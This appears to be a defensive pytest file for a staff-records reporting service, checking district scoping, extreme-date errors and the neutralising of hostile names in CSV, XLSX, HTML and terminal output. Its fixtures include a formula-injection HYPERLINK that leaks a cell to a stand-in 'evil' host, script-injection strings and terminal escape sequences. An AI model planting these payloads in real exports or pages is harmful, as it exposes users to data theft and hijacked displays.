"""Issue 16 review (rev16): attacks on the report catalogue, the dashboard export and the printed page — a token per
role, a district office, hostile parameter values and hostile names."""

from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
import pytest
from fastapi.testclient import TestClient

from hub import reports
from hub.api.app import create_app
from hub.domain.vocabulary import Role
from hub.reports import render
from hub.service_layer.tokens import create_token
from tests.integration import report_city as rc

Q = "query($n: String!, $p: JSON) { report(name: $n, params: $p) { columns rows } }"


@pytest.fixture
def city(db):
    return rc.build(db)


def _gql(client, token, name, params=None):
    return client.post("/graphql", json={"query": Q, "variables": {"n": name, "p": params}},
                       headers={"Authorization": f"Bearer {token}", "X-Purpose": "review"}).json()


@pytest.mark.parametrize("name,params", [
    ("onboarding-turnaround", {"to": "9999-12-31"}),
    ("onboarding-turnaround", {"from": "0001-01-01"}),
    ("read-access", {"to": "9999-12-31"}),
    ("staff-changes", {"period": "0000-01"}),
    ("headcount-consistency", {"period": "0000-01"}),
    ("age-structure", {"as_of": "0001-01-01"}),
])
def test_extreme_dates_are_a_clear_parameter_error_not_an_internal_one(city, name, params):
    """date.max + 1 day or year 0 used to escape as INTERNAL_SERVER_ERROR ("date value out of range") or as Python's
    own "year 0 is out of range"; a parameter outside the years a report knows is the caller's mistake."""
    db = city["db"]
    client = TestClient(create_app(db), raise_server_exceptions=False)
    admin = create_token(db, role="ADMIN", name="a")[1]
    err = _gql(client, admin, name, params)["errors"][0]
    assert err["extensions"]["code"] == "BAD_USER_INPUT", err
    assert "outside the years" in err["message"], err


def test_a_district_office_sees_only_its_district_in_every_report(city):
    db, u = city["db"], city["units"]
    client = TestClient(create_app(db), raise_server_exceptions=False)
    district = create_token(db, role="ADMIN", name="xihu", region_code=rc.DISTRICT)[1]
    elsewhere = {u["bureau"], u["school"], rc.CITY, "杭州市财政局", "杭州市第一中学"}
    params = {"headcount-consistency": {"period": "2026-06"}, "staff-changes": {"period": "2026-06"},
              "annual-report": {"year": 2026}, "annual-staff": {"year": 2026}}
    for name, report in reports.catalogue().items():
        if not report.district_scoped:
            continue
        for p in ({**params.get(name, {})}, {**params.get(name, {}), "region": rc.CITY}):
            if "unit" in {q.name for q in report.params} and name != "quota-use":
                p = {"unit": u["bureau"]}
            elif "region" not in {q.name for q in report.params}:
                p.pop("region", None)
            r = _gql(client, district, name, p)
            if r.get("errors"):
                assert r["errors"][0]["extensions"]["code"] == "BAD_USER_INPUT", (name, r)
                continue
            leaked = [row for row in r["data"]["report"]["rows"] for c in row if c in elsewhere]
            assert not leaked, (name, p, leaked)


def test_hostile_names_stay_data_in_csv_xlsx_and_the_printed_page(db):
    u = rc._unit(db, name='=HYPERLINK("http://evil/?"&A1,"点此")', approved={"ADMINISTRATIVE": 2})
    idn = rc._person(db, "<script>alert(1)</script>", date(1966, 8, 15), True, "BACHELOR")
    rc._hire(db, idn, u)
    idn2 = rc._person(db, "@SUM(1+1)", date(1966, 9, 15), True, "BACHELOR")
    rc._hire(db, idn2, u)
    client = TestClient(create_app(db), raise_server_exceptions=False)
    admin = create_token(db, role="ADMIN", name="a")[1]
    h = {"Authorization": f"Bearer {admin}"}
    cells = [c for row in csv.reader(io.StringIO(client.get("/dashboard/export/quota-use.csv", headers=h).text))
             for c in row]
    cells += [c for row in csv.reader(io.StringIO(client.get("/dashboard/export/retirements-due.csv",
                                                             params={"months": "120"}, headers=h).text)) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not c[1:].isdigit())]
    assert "'=HYPERLINK(\"http://evil/?\"&A1,\"点此\")" in cells and "'@SUM(1+1)" in cells
    r = client.get("/dashboard/export/quota-use.xlsx", headers=h)
    wb = openpyxl.load_workbook(io.BytesIO(r.content))
    assert all(c.data_type != "f" for row in wb.active.iter_rows() for c in row)
    table, _ = reports.run_report(db, "retirements-due", {"months": "120"},
                                  caller=reports.Caller(name="cli", role=Role.ADMIN))
    page = render.to_html(table, office='杭州市"</style><script>x()</script>')
    assert "<script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page


def test_the_terminal_table_prints_names_as_they_are_not_as_rich_markup(db, monkeypatch):
    """`hub report NAME` (format table) printed cells through rich with markup on: a unit named "[b]…[/b]" or
    "[link=…]" was restyled or turned into a hyperlink on the operator's terminal, its brackets gone."""
    from typer.testing import CliRunner

    import hub.cli
    from hub.cli import app as cli_app

    # hub.cli's console read its width when the module was imported, not from COLUMNS below: a wide console so
    # the name is not wrapped across table lines (it was, under pytest-xdist's import order)
    monkeypatch.setattr(hub.cli.console, "width", 400)
    name = "[link=http://evil.example/]市局[/link][b]X[/b]"
    rc._unit(db, name=name, approved={"ADMINISTRATIVE": 1})
    r = CliRunner().invoke(cli_app, ["--database-url", db.url, "report", "quota-use"], env={"COLUMNS": "400"})
    assert r.exit_code == 0, r.output
    assert name in r.output, r.output


def test_the_terminal_table_sends_no_escape_sequence_from_a_name(db):
    """A unit name holding ESC: rich escapes markup but passes ESC through, so a name "…\\x1b[2J…" cleared the
    operator's screen (or set the title, wrote a hyperlink) when `hub report` printed it. The registry refuses such a
    name now (hub.domain.registry.plain_text); a row stored before that rule, or written around it, still prints
    without the escape."""
    from sqlalchemy import update
    from typer.testing import CliRunner

    from hub.adapters.orm import UnitRow
    from hub.cli import app as cli_app

    evil = "市局\x1b[2J\x1b]8;;http://evil.example/\x1b\\点此"
    with pytest.raises(ValueError, match="control characters"):
        rc._unit(db, name=evil, approved={"ADMINISTRATIVE": 1})
    code = rc._unit(db, name="市局点此", approved={"ADMINISTRATIVE": 1})
    with db.session() as s, s.begin():
        s.execute(update(UnitRow).where(UnitRow.code == code).values(name=evil))
    r = CliRunner().invoke(cli_app, ["--database-url", db.url, "report", "quota-use"], env={"COLUMNS": "400"})
    assert r.exit_code == 0, r.output
    assert "市局" in r.output and "\x1b" not in r.output


@pytest.mark.parametrize("char", ["\uffff", "\ufffe"])
def test_one_name_with_a_non_xml_character_does_not_break_the_xlsx_export(db, char):
    """U+FFFE/U+FFFF are not XML characters; a unit named with one (the registry accepts it) made the exported
    workbook unreadable — the office's whole quota-use or annual-report XLSX, not just that row."""
    rc._unit(db, name=f"市局{char}一处", approved={"ADMINISTRATIVE": 1})
    client = TestClient(create_app(db), raise_server_exceptions=False)
    admin = create_token(db, role="ADMIN", name="a")[1]
    r = client.get("/dashboard/export/quota-use.xlsx", headers={"Authorization": f"Bearer {admin}"})
    assert r.status_code == 200
    names = [row[6] for row in openpyxl.load_workbook(io.BytesIO(r.content)).active.iter_rows(min_row=4, values_only=True)]
    assert "市局一处" in names
